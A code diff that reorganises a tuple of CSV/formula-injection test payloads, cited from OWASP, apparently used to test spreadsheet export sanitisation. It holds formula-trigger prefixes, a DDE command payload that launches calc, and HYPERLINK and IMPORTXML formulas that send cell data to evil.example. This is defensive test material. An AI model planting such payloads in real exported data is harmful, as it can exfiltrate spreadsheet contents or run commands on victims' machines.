@@ -62,33 +62,11 @@ LEAD: Lead = {
 }
 # After OWASP, "CSV Injection", and what was seen in reports of it.
 PAYLOADS = (
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "\ufeff=1+1",
-    "\u200b=1+1",
-    "'=1+1",
-    '"=1+1',
-    '",=1+1',
-    ";=1+1",
-    'x",=1+1,"',
-    "x;=1+1",
-    "x\t=1+1",
-    "x\n=1+1",
-    "x | =1+1",
-    "\uff1d1+1",
-    "\uff0b1",
-    "\uff0d1",
-    "\uff20SUM(1)",
-    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
-    "=cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    '=IMPORTXML(CONCAT("https://evil.example"), "//a")',
+    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1"),
+    *("\u200b=1+1", "'=1+1", '"=1+1', '",=1+1', ";=1+1", 'x",=1+1,"', "x;=1+1", "x\t=1+1"),
+    *("x\n=1+1", "x | =1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)"),
+    *('=HYPERLINK("https://evil.example?x="&A1,"Click")', "=cmd|' /C calc'!A0"),
+    *("-2+3+cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("https://evil.example"), "//a")'),
 )
 SIGNS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
 
